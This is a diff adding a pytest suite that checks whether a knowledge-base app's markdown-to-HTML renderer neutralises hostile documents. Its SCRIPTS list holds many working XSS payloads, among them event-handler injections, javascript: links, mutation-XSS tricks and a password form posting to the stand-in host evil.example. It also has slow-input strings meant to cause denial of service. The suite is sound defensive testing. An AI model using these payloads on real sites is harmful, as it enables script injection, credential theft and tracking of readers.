@@ -1,0 +1,189 @@
+"""A document is data: whatever it says, nothing runs, nothing is fetched, and the page looks as it should."""
+
+from __future__ import annotations
+
+import re
+import time
+from html.parser import HTMLParser
+
+import pytest
+
+from kbhub.documents.markdown import parse_document
+from kbhub.render.html.documents import TAGS, Addresses, document_html, part_with
+
+SCRIPTS = [
+    "<script>window.hacked = 1</script>",
+    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
+    "<scr<script>ipt>window.hacked = 1</scr</script>ipt>",
+    "<img src=x onerror=window.hacked=1>",
+    "<svg onload=window.hacked=1><script>window.hacked=1</script></svg>",
+    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
+    "<details open ontoggle=window.hacked=1>x</details>",
+    "<a href='javascript:window.hacked=1' id=q autofocus>click</a>",
+    "[click](javascript:window.hacked=1)",
+    "[click](  java\nscript:window.hacked=1)",
+    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
+    "[click](vbscript:x)",
+    "![x](javascript:window.hacked=1)",
+    "[[javascript:window.hacked=1|click]]",
+    "<javascript:window.hacked=1>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
+    "<object data='data:text/html,<script>window.hacked=1</script>'></object>",
+    "<embed src=//evil.example/x>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>body{display:none}</style>",
+    "<p style='position:fixed;inset:0;background:red'>cover</p>",
+    "<div class='top banner'>disguise</div>",
+    "<form action=//evil.example><input name=password><button>OK</button></form>",
+    "<form action=/memories/change method=post><input name=id value=x><button autofocus>OK</button></form>",
+    "<input id=q name=q value=evil>",
+    "<img name=body src=x><a id=main>clobber</a>",
+    "<template><script>window.hacked=1</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
+    "<textarea><img title='</textarea><img src onerror=window.hacked=1>'></textarea>",
+    "<xmp><p title='</xmp><img src onerror=window.hacked=1>'></xmp>",
+    "<!--><img src onerror=window.hacked=1>-->",
+    "<![CDATA[<img src onerror=window.hacked=1>]]>",
+    '```"><script>window.hacked=1</script>\ncode\n```',
+    "```html\n<script>window.hacked=1</script>\n```",
+    "| a |\n|---|\n| <script>window.hacked=1</script> |",
+    "# <img src=x onerror=window.hacked=1>",
+    "![x](https://evil.example/track.png)",
+    "<img src=https://evil.example/track.png srcset='https://evil.example/2.png 2x'>",
+    "<video src=//evil.example/v.mp4 autoplay></video><audio src=//evil.example/a.mp3 autoplay></audio>",
+    "<a href=//evil.example/>scheme-relative</a>",
+    "<a href='/memories/change'>into the page</a>",
+    '<button hx-post=/memories/change hx-trigger=load hx-vals=\'{"action":"forget"}\'>x</button>',
+    "<div hx-get=/health hx-trigger=load data-open data-item data-confirm=x>x</div>",
+    "<a ping=//evil.example href=https://good.example>ping</a>",
+    "\u202egnp.tohs\u202c",
+]
+
+ALLOWED = {
+    *("href", "src", "alt", "title", "width", "height", "class", "id", "data-line", "rel", "start", "align", "colspan"),
+    *("rowspan", "scope", "open"),
+}
+
+
+class Tags(HTMLParser):
+    """Collects tags and attributes, as a browser reads them."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(text)
+
+    def handle_starttag(self, tag, attrs):
+        """Keep a tag."""
+        self.found.append((tag, dict(attrs)))
+
+
+NOWHERE = Addresses(lambda _target, _fragment: None, lambda _path: None)
+
+
+def html(text: str) -> str:
+    """Render a document."""
+    document = parse_document("a.md", text.encode())
+    return str(document_html(document, part_with(document, 1), NOWHERE, [(1, 3)]))
+
+
+@pytest.mark.parametrize("text", SCRIPTS)
+def test_nothing_dangerous_is_left(text):
+    """In what the page gets, tags and attributes that do something are gone; their text may stay."""
+    for tag, attributes in Tags(html(f"before\n\n{text}\n\nafter")).found:
+        assert tag in TAGS
+        assert attributes.keys() <= ALLOWED
+        assert all((attributes.get(name) or "https://").startswith(("http://", "https://")) for name in ("href", "src"))
+        assert (attributes.get("id") or "doc-").startswith("doc-")
+        assert not {"top", "banner"} & set((attributes.get("class") or "").split())
+
+
+def test_images_of_other_sites_are_not_fetched():
+    """Opening a document tells nobody."""
+    assert "evil.example" not in "".join(re.findall(r"<img[^>]*>", html("".join(SCRIPTS))))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[" * 20_000,
+        "![" * 10_000,
+        "*a_" * 20_000,
+        "> " * 5_000 + "x",
+        "- " * 2_000 + "x",
+        "<" * 50_000,
+        "`" * 20_001,
+        "|" * 5_000 + "\n" + "|-" * 5_000,
+        "<div>" * 20_000,
+        "[[" + "a" * 100_000,
+        "[a](" + "(" * 30_000,
+        "&" * 50_000,
+        "a" * 1_000_000,
+    ],
+    ids=lambda text: text[:6],
+)
+def test_a_document_made_to_be_slow_is_not(text):
+    """Far from seconds for anything that a page shows at once."""
+    began = time.process_time()
+    html(text)
+
+    assert time.process_time() - began < 20
+
+
+def test_all_of_it_at_once_in_a_browser(environment, tab):
+    """Nothing runs, nothing is asked of another host, and the page's own parts are what they were."""
+    environment.write("knowledge/hostile.md", "# Hostile\n\n" + "\n\n".join(SCRIPTS))
+    environment.write("knowledge/title.md", "---\ntitle: '<script>window.hacked=1</script>'\n---\nxylophone <b>x</b>\n")
+    environment.write("knowledge/<img src=x onerror=hacked=1>.md", "# x\n\nxylophone\n")
+    environment.hub().sync()
+    paths = (
+        "/read?ref=hostile.md",
+        "/?q=hacked",
+        "/?q=xylophone",
+        "/?q=<script>window.hacked=1</script>",
+        "/documents",
+    )
+    for path in (*paths, "/graph", "/health", "/ask?q=xylophone", "/gaps"):
+        page = tab.go(path)
+        page.wait_for_load_state("networkidle") if path != "/health" else page.wait_for_timeout(1)
+        assert page.evaluate("window.hacked") is None
+        assert page.locator("header.top").is_visible()
+    page = tab.go("/read?ref=hostile.md")
+    for link in page.locator(".body a[href]").all():
+        assert link.get_attribute("href").startswith(("https://", "/read?"))
+    assert page.locator(".body a:not([href])").count()
+    for link in page.locator(".body a:not([href])").all():
+        link.click(force=True)
+    assert page.url.endswith("/read?ref=hostile.md")
+    assert page.evaluate("window.hacked") is None
+    assert all(url.startswith((tab.opened.origin, "data:")) for url in tab.asked), tab.asked
+    assert tab.dialogs == []
+
+
+def test_a_picture_that_is_a_page_does_nothing(environment, tab):
+    """An SVG with a script, opened by itself, is a picture."""
+    environment.write(
+        "knowledge/x.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>window.hacked=1</script></svg>"
+    )
+    environment.write("knowledge/a.md", "# A\n\n![x](x.svg)\n")
+
+    page = tab.go("/image?base=project&path=x.svg")
+
+    assert page.evaluate("window.hacked") is None
+
+
+def test_a_large_document_is_shown_in_parts(environment, tab):
+    """A megabyte is not one page; the lines that were found are on the one that opens."""
+    lines = [f"Line {number} of it, with some words to make it long enough." for number in range(20_000)]
+    environment.write("knowledge/large.md", "# Large\n\n" + "\n\n".join(lines))
+    environment.hub().sync()
+
+    page = tab.go("/read?ref=large.md:30003-30003")
+
+    assert page.locator("#doc-found").inner_text() == "Line 15000 of it, with some words to make it long enough."
+    assert len(page.content()) < 1_000_000
+    page.get_by_role("link", name="Lines before").click()
+    assert "Line 9000 of it" in page.content() or "Line 12000 of it" in page.content()
